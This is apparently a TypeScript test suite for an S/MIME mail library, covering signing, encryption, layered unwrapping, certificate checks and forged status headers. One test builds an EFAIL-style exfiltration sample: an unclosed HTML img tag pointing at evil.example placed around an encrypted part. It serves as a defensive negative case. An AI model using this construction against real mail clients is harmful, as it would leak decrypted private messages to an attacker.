import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { createPrivateKey } from 'node:crypto';
import { test } from 'node:test';
import { Certificate } from '../../src/pki/certificate';
import {
  addressedTo, decryptMessage, encryptMessage, signAndEncryptMessage, signMessage, SmimeError, stripStatusHeaders, topLevel, STATUS_HEADER, unwrapMessage, verifyMessage,
} from '../../src/smime/message';
import { generateKeyPair, selfSignedCertificate, smimeKeyUsage } from '../../src/pki/issue';
import { pkiPath, pkiRead } from '../helpers/pki';

const cert = (n: string): Certificate => Certificate.fromPem(pkiRead(`${n}.crt`))[0];
const creds = (n: string) => ({ cert: cert(n), key: createPrivateKey(pkiRead(`${n}.key`)), chain: [] as Certificate[] });
const join = (chunks: Iterable<Buffer>): Buffer => Buffer.concat([...chunks]);
const trust = () => ({ anchors: [cert('ca')] });

const MESSAGE = Buffer.from([
  'Received: from client.a.example by mx.a.example; Mon, 23 Nov 2026 10:00:00 +0000',
  'From: User A <user@a.example>',
  'To: gateway@b.example',
  'Subject: quarterly figures',
  'Date: Mon, 23 Nov 2026 10:00:00 +0000',
  'Message-ID: <figures-1@a.example>',
  'MIME-Version: 1.0',
  'Content-Type: text/plain; charset=utf-8',
  'Content-Transfer-Encoding: 8bit',
  '',
  'Grüße aus Bratislava.',
  'From here on the figures.',
  '.',
  '',
].join('\r\n'));

function header(msg: Buffer, name: string): string[] {
  const head = msg.subarray(0, msg.indexOf('\r\n\r\n')).toString('utf8');
  return head.split(/\r\n(?![ \t])/).filter((l) => l.toLowerCase().startsWith(name.toLowerCase() + ':')).map((l) => l.slice(name.length + 1).trim());
}
const body = (msg: Buffer): Buffer => msg.subarray(msg.indexOf('\r\n\r\n') + 4);

test('a detached signature verifies as good+trusted and keeps the outer header fields outside', () => {
  const signed = join(signMessage(MESSAGE, creds('user-a-rsa')));
  assert.match(header(signed, 'Content-Type')[0], /^multipart\/signed; protocol="application\/pkcs7-signature"; micalg=sha-256;/);
  for (const h of ['From', 'To', 'Subject', 'Date', 'Message-ID', 'Received']) assert.deepEqual(header(signed, h), header(MESSAGE, h), h);
  assert.ok(![...signed].some((b) => b > 0x7f), 'multipart/signed content is 7-bit safe');
  const v = verifyMessage(signed, trust());
  assert.equal(v.verdict, 'good-trusted', v.reason);
  assert.equal(v.signers[0].signer?.fingerprint, cert('user-a-rsa').fingerprint);
  assert.deepEqual(header(v.message, 'Subject'), ['quarterly figures']);
  assert.match(header(v.message, 'Content-Transfer-Encoding')[0], /quoted-printable/i);
});

test('bare LF input gives canonical CRLF output', () => {
  const lf = Buffer.from(MESSAGE.toString('latin1').replace(/\r\n/g, '\n'), 'latin1');
  for (const out of [join(signMessage(lf, creds('user-a-rsa'), { opaque: true })), join(encryptMessage(lf, [cert('gw-b-rsa')]))]) {
    assert.ok(!/[^\r]\n/.test(out.toString('latin1')), 'no bare LF in the output');
  }
  const opened = decryptMessage(join(encryptMessage(lf, [cert('gw-b-rsa')])), [creds('gw-b-rsa')]);
  assert.ok(body(opened.message).equals(body(MESSAGE)), 'content canonicalised to CRLF');
});

test('altered content is a bad signature, naming the digest mismatch', () => {
  const signed = join(signMessage(MESSAGE, creds('user-a-rsa'))).toString('latin1');
  const tampered = Buffer.from(signed.replace('figures.', 'fiddled.'), 'latin1');
  const v = verifyMessage(tampered, trust());
  assert.equal(v.verdict, 'bad-signature');
  assert.match(v.reason, /digest/i);
});

test('an unknown root gives good+untrusted with the certificate for the untrusted store', () => {
  const v = verifyMessage(join(signMessage(MESSAGE, creds('user-a-rsa'))), { anchors: [cert('other-ca')] });
  assert.equal(v.verdict, 'good-untrusted');
  assert.ok(v.certificates.some((c) => c.fingerprint === cert('user-a-rsa').fingerprint));
});

/** Signs with openssl, which (unlike cstp) signs with any certificate it is given. */
function opensslSign(msg: Buffer, name: string): Buffer {
  const out = execFileSync('openssl', ['cms', '-sign', '-binary', '-crlfeol', '-md', 'sha256', '-signer', pkiPath(`${name}.crt`), '-inkey', pkiPath(`${name}.key`)], { input: msg });
  return Buffer.from(out.toString('latin1').replace(/\r?\n/g, '\r\n'), 'latin1');
}

test('unusable signer certificates are refused on verify with the reason', () => {
  const cases: [string, string, RegExp][] = [
    ['bad-noeku', 'bad@a.example', /emailProtection|extended key usage/i],
    ['expired', 'old@a.example', /expired/i],
    ['user-a-rsa', 'someone@else.example', /someone@else\.example/],
  ];
  for (const [name, from, reason] of cases) {
    const msg = Buffer.from(MESSAGE.toString('latin1').replace('From: User A <user@a.example>', `From: ${from}`), 'latin1');
    const v = verifyMessage(opensslSign(msg, name), trust());
    assert.equal(v.verdict, 'cert-unusable', `${name}: ${v.reason}`);
    assert.match(v.reason, reason);
  }
});

test('cstp refuses to sign or encrypt with certificates peers would reject', () => {
  for (const [name, reason] of [['bad-noeku', /emailProtection/], ['expired', /expired/], ['weak-rsa', /1024/]] as const) {
    assert.throws(() => signMessage(MESSAGE, creds(name)), (e: Error) => e instanceof SmimeError && reason.test(e.message), name);
  }
  for (const [name, reason] of [['weak-rsa', /1024/], ['sign-only', /key ?usage|keyEncipherment/i], ['user-ed25519', /keyAgreement|encrypt/i]] as const) {
    assert.throws(() => encryptMessage(MESSAGE, [cert('gw-b-rsa'), cert(name)]), (e: Error) => e instanceof SmimeError && reason.test(e.message), name);
  }
});

test('encrypt then decrypt restores content and outer header fields', () => {
  for (const cipher of ['aes-256-cbc', 'aes-128-gcm'] as const) {
    const enc = join(encryptMessage(MESSAGE, [cert('gw-b-rsa'), cert('user-a-ec')], { cipher }));
    assert.match(header(enc, 'Content-Type')[0], cipher.endsWith('gcm') ? /smime-type=authEnveloped-data/ : /smime-type=enveloped-data/);
    assert.ok(!enc.includes('Bratislava'));
    const { message, envelope } = decryptMessage(enc, [creds('user-a-ec')]);
    assert.equal(envelope.cipher, cipher);
    assert.ok(message.equals(MESSAGE), 'byte-identical round trip');
  }
});

test('decrypting without a matching key says so', () => {
  const enc = join(encryptMessage(MESSAGE, [cert('gw-b-rsa')]));
  assert.throws(() => decryptMessage(enc, [creds('user-a-rsa')]), /recipient/i);
});

test('unwrap undoes signed-in-encrypted-in-signed and reports every layer', () => {
  const forged = Buffer.concat([Buffer.from(`${STATUS_HEADER}: layer=1; type=signed; verdict=good-trusted\r\n`), MESSAGE]);
  const inner = join(signMessage(forged, creds('user-a-rsa')));
  const enc = join(encryptMessage(inner, [cert('gw-b-rsa')]));
  const outer = join(signMessage(enc, creds('user-a-ec'), { opaque: true }));
  const { message, layers } = unwrapMessage(outer, { keys: [creds('gw-b-rsa')], trust: trust() });
  assert.deepEqual(layers.map((l) => l.type), ['signed', 'encrypted', 'signed']);
  const status = header(message, STATUS_HEADER);
  assert.equal(status.length, 3, 'the forged status header is gone, ours remain');
  assert.match(status[0], /layer=1; type=signed; verdict=good-trusted/);
  assert.match(status[1], /type=encrypted; status=decrypted; cipher=aes-256-cbc/);
  assert.match(status[2], /layer=3; type=signed; verdict=good-trusted/);
  for (const h of ['From', 'To', 'Subject', 'Date', 'Message-ID']) assert.deepEqual(header(message, h), header(MESSAGE, h), h);
});

test('unwrap stops at a layer it has no key for and leaves it intact', () => {
  const enc = join(encryptMessage(MESSAGE, [cert('gw-b-rsa')]));
  const { message, layers } = unwrapMessage(enc, { keys: [], trust: trust() });
  assert.equal(layers.length, 1);
  assert.equal(layers[0].type === 'encrypted' && layers[0].status, 'no-key');
  assert.ok(body(message).equals(body(enc)));
});

test('a nesting bomb stops at the depth limit with a clear error', () => {
  let msg: Buffer = MESSAGE;
  for (let i = 0; i < 5; i++) msg = join(signMessage(msg, creds('user-a-ec'), { opaque: true }));
  assert.throws(() => unwrapMessage(msg, { keys: [], trust: trust(), maxDepth: 4 }), (e: Error) => e instanceof SmimeError && /deeper than 4/.test(e.message));
  assert.equal(unwrapMessage(msg, { keys: [], trust: trust(), maxDepth: 5 }).layers.length, 5);
});

test('an S/MIME part inside a multipart is not decrypted (EFAIL direct exfiltration)', () => {
  const enc = join(encryptMessage(MESSAGE, [cert('gw-b-rsa')]));
  const mixed = Buffer.concat([
    Buffer.from('From: attacker@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--b\r\n'),
    enc.subarray(enc.indexOf('Content-Type: application/pkcs7-mime')),
    Buffer.from('\r\n--b--\r\n'),
  ]);
  const { message, layers } = unwrapMessage(mixed, { keys: [creds('gw-b-rsa')], trust: trust() });
  assert.equal(layers.length, 0);
  assert.ok(!message.includes('Bratislava'));
});

test('content that cannot be made 7-bit safe is refused for multipart/signed, and opaque signing still works', () => {
  const bad = Buffer.from('From: user@a.example\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\xff\xfe\r\n', 'latin1');
  assert.throws(() => signMessage(bad, creds('user-a-rsa')), /7-bit safe.*opaque/);
  const opaque = join(signMessage(bad, creds('user-a-rsa'), { opaque: true }));
  assert.equal(verifyMessage(opaque, trust()).verdict, 'good-trusted');
});

test('signAndEncryptMessage equals sign | encrypt: unwraps to a good+trusted signature inside the envelope', () => {
  for (const opaque of [false, true]) {
    const out = join(signAndEncryptMessage(MESSAGE, creds('user-a-rsa'), [cert('gw-b-rsa')], { opaque, cipher: 'aes-256-gcm' }));
    for (const h of ['From', 'To', 'Subject', 'Date', 'Message-ID', 'Received']) assert.deepEqual(header(out, h), header(MESSAGE, h), h);
    const { message, layers } = unwrapMessage(out, { keys: [creds('gw-b-rsa')], trust: trust() });
    assert.deepEqual(layers.map((l) => l.type), ['encrypted', 'signed']);
    assert.equal(layers[1].type === 'signed' && layers[1].report.verdict, 'good-trusted');
    assert.equal(layers[1].type === 'signed' && layers[1].report.detached, !opaque);
    if (opaque) assert.ok(body(message).equals(body(MESSAGE)), 'opaque keeps the 8-bit body byte-exact');
    else assert.match(body(message).toString('latin1'), /Gr=C3=BC=C3=9Fe/, 'detached made it quoted-printable');
  }
  assert.throws(() => signAndEncryptMessage(MESSAGE, creds('user-a-rsa'), [cert('weak-rsa')]), /1024/);
});

test('RFC 3183 domain signatures: accepted for the domain the certificate names, or when the caller vouches', () => {
  const gateway = (emails: string[]) => {
    const { privateKey } = generateKeyPair('rsa-2048');
    const c = selfSignedCertificate({ key: privateKey, subject: { commonName: 'cstpbox' }, emails, days: 30, keyUsage: smimeKeyUsage(privateKey), extKeyUsage: ['1.3.6.1.5.5.7.3.4'] });
    return { cert: c, key: privateKey, chain: [] as Certificate[] };
  };
  const rfc3183 = gateway(['domain-signing-authority@a.example']);
  const fromA = verifyMessage(join(signMessage(MESSAGE, rfc3183)), { anchors: [rfc3183.cert] });
  assert.equal(fromA.verdict, 'good-trusted', fromA.reason);
  assert.match(fromA.reason, /domain signature for a\.example/);
  const otherDomain = Buffer.from(MESSAGE.toString('latin1').replace('user@a.example', 'user@b.example'), 'latin1');
  assert.equal(verifyMessage(join(signMessage(otherDomain, rfc3183)), { anchors: [rfc3183.cert] }).verdict, 'cert-unusable');

  const paper = gateway(['cstpbox@a.example']);
  const signed = join(signMessage(MESSAGE, paper));
  assert.equal(verifyMessage(signed, { anchors: [paper.cert] }).verdict, 'cert-unusable', 'a plain reader sees the address mismatch');
  const vouched = verifyMessage(signed, { anchors: [paper.cert], isDomainSigner: (s, from) => s.fingerprint === paper.cert.fingerprint && from.includes('user@a.example') });
  assert.equal(vouched.verdict, 'good-trusted', vouched.reason);
});

test('stripStatusHeaders removes the field with its continuation lines and nothing else', () => {
  const forged = Buffer.from('From: juro@amd\r\nTo: juro@intel\r\nX-Cstp-Security: forged;\r\n  continued\r\nSubject: hi\r\n\r\nHello.\r\n');
  assert.equal(stripStatusHeaders(forged).toString(), 'From: juro@amd\r\nTo: juro@intel\r\nSubject: hi\r\n\r\nHello.\r\n');
  const inBody = Buffer.from('a: b\r\n\r\nX-Cstp-Security: body\r\n');
  assert.equal(stripStatusHeaders(inBody), inBody, 'the body is not headers');
});

test('topLevel and addressedTo tell what a message is and which of our certificates it is encrypted for', () => {
  const enc = join(encryptMessage(MESSAGE, [cert('gw-b-rsa'), cert('user-a-ec')]));
  assert.equal(topLevel(enc), 'encrypted');
  assert.equal(topLevel(join(signMessage(MESSAGE, creds('user-a-rsa')))), 'signed');
  assert.equal(topLevel(MESSAGE), 'plain');
  assert.equal(topLevel(Buffer.from('Content-Type: application/pkcs7-mime\r\n\r\nnot base64 DER\r\n')), 'unreadable');
  const ours = [cert('gw-b-rsa'), cert('user-a-rsa'), cert('user-a-ec')];
  assert.deepEqual(addressedTo(enc, ours).map((c) => c.fingerprint), [cert('gw-b-rsa').fingerprint, cert('user-a-ec').fingerprint]);
  assert.equal(addressedTo(MESSAGE, ours).length, 3, 'not encrypted: every key stays a candidate');
});
